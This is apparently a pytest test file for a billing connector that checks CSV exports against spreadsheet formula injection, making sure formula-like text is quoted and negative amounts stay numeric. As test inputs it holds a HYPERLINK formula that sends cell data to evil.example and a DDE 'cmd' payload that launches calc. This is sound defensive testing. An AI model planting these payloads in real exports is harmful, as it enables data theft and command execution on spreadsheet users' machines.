"""Issue 19, defect 3: no CSV we write lets a spreadsheet run provider text as a formula.

A marketplace product name is chosen by its third-party seller; one that reads like a
formula must reach every CSV (the CSV sink's Xero and QuickBooks files, the report and
the reconciliation) as text with a leading quote, while amounts, negative ones
included, stay numbers.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import types
from decimal import Decimal
from pathlib import Path

import pytest
from connector_erp_csv.plugin import CsvSink
from connector_render_csv.plugin import CsvRenderer

from connector.contracts import SinkContext, csv_cell
from connector.domain.report_rounding import Figures
from connector.pipeline.reconcile import report as reconcile_report
from connector.pipeline.reconcile.reconcile import (
    CustomerReconciliation,
    Reconciliation,
    UnassignedAccount,
)
from connector.pipeline.report import output as report_output
from connector.pipeline.report.report import ReportRow, ReportTotal
from tests.factories import make_statement

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click for refund")'
DEFUSED = "'" + FORMULA
OTHERS = ("+1+1", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR")


def with_marketplace_formula():  # type: ignore[no-untyped-def]
    document = make_statement()
    lines = [
        dataclasses.replace(line, description=FORMULA)
        if "Marketplace" in line.description and line.amount
        else line
        for line in document.lines
    ]
    assert any(line.description == FORMULA for line in lines)
    return dataclasses.replace(document, lines=tuple(lines))


def read(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def starts_like_a_formula(cell: str) -> bool:
    return cell.startswith(("=", "+", "@", "\t", "\r")) or (
        cell.startswith("-") and not _is_number(cell)
    )


def _is_number(cell: str) -> bool:
    try:
        Decimal(cell)
    except ArithmeticError:
        return False
    return True


@pytest.mark.parametrize(
    ("template", "description", "amounts"),
    [
        ("xero", "*Description", ("*UnitAmount", "TaxAmount", "Total")),
        ("quickbooks", "ItemDescription", ("ItemRate", "ItemAmount", "ItemTaxAmount")),
    ],
)
def test_a_marketplace_formula_reaches_the_erp_import_files_as_text(
    tmp_path: Path, template: str, description: str, amounts: tuple[str, ...]
) -> None:
    document = with_marketplace_formula()
    context = SinkContext(tenant="northwind", output_dir=tmp_path, run_id="run-1")
    [result] = CsvSink({"template": template}, context).push([document])
    assert result.ok, result.message
    rows = read(tmp_path / "erp" / f"northwind-{template}-invoices-run-1.csv")
    assert DEFUSED in [row[description] for row in rows]
    for row in rows:
        assert not any(starts_like_a_formula(cell) for cell in row.values()), row
        for column in amounts:
            assert _is_number(row[column]), (column, row[column])
    # The credit line is still a negative number, not quoted text.
    credit = [row for row in rows if row[description].startswith("Credit applied")]
    assert [row[amounts[0]] for row in credit] == ["-50.00"]


def test_the_statement_csv_escapes_through_the_shared_cell() -> None:
    document = with_marketplace_formula()
    text = CsvRenderer().render(document, "csv").decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert DEFUSED in [row["description"] for row in rows]
    assert "-50.00" in [row["amount"] for row in rows]


def test_the_report_csv_defuses_text_and_keeps_negative_amounts_numbers() -> None:
    now = Figures(
        quantity=Decimal(1), cost=Decimal("-12.50"), price=Decimal("-12.50"),
        cost_report=Decimal("-12.50"), price_report=Decimal("-12.50"),
        price_bill=Decimal("-12.50"),
    )  # fmt: skip
    row = ReportRow(
        level="usage_type", period="2026-10", currency="USD", customer_id="C1",
        customer_name="+Customer", account_id="111111111111", is_marketplace=True,
        service_category="-Marketplace", service_name=FORMULA, usage_type="@usage",
        line_item_type="\tUsage", provisional=False, pricebook_version="v1", now=now,
    )  # fmt: skip
    report = types.SimpleNamespace(
        rows=(row,), totals=(ReportTotal("USD", now, None, None),), provisional=False
    )
    rows = list(csv.DictReader(io.StringIO(report_output.to_csv(report).decode())))
    first = rows[0]
    assert first["service"] == DEFUSED
    assert (first["customer_name"], first["service_category"], first["usage_type"]) == (
        "'+Customer", "'-Marketplace", "'@usage",
    )  # fmt: skip
    assert first["line_item_type"] == "'\tUsage"
    for produced in rows:
        assert (produced["cost"], produced["price"], produced["price_bill"]) == ("-12.50",) * 3
        assert not any(starts_like_a_formula(cell) for cell in produced.values()), produced


def test_the_reconciliation_csv_defuses_text_and_keeps_negative_amounts_numbers() -> None:
    customer = CustomerReconciliation(
        customer_id="C1", name=FORMULA, cost=Decimal("-7.25"), marketplace_cost=Decimal(0),
        cost_currency="USD", drift=Decimal("-1.00"), problems=("-problem =1+1",),
    )  # fmt: skip
    rec = Reconciliation(
        tenant="t", provider="aws", period="2026-10", currency="USD", batch_ids=(1,),
        by_category={"Usage": Decimal("-7.25"), "@Provider": Decimal("-3")},
        provider_total=Decimal("-10.25"), ingested_total=Decimal("-10.25"),
        customers=(customer,),
        unassigned=(UnassignedAccount("=cmd|' /C calc'!A0", Decimal("-3"), Decimal("-3")),),
        problems=(),
    )  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(reconcile_report.to_csv(rec).decode())))
    by_row = {row["row"]: row for row in rows}
    assert by_row["customer"]["name"] == DEFUSED
    assert by_row["customer"]["note"] == "'-problem =1+1"
    assert by_row["unassigned"]["id"] == "'=cmd|' /C calc'!A0"
    assert by_row["customer"]["billed_cost"] == "-7.25"
    assert by_row["customer"]["drift"] == "-1.00"
    for row in rows:
        assert not any(starts_like_a_formula(cell) for cell in row.values()), row


@pytest.mark.parametrize("text", [FORMULA, *OTHERS])
def test_the_shared_cell_quotes_formula_text(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (Decimal("-12.50"), "-12.50"),
        (Decimal("-0.00"), "0.00"),
        (Decimal("0E-12"), "0.000000000000"),
        (-3, "-3"),
        (None, ""),
        (True, "true"),
        ("AWS Compute", "AWS Compute"),
        (dt.date(2026, 10, 1), "2026-10-01"),
    ],
)
def test_the_shared_cell_keeps_numbers_numbers(value: object, cell: str) -> None:
    assert csv_cell(value) == cell
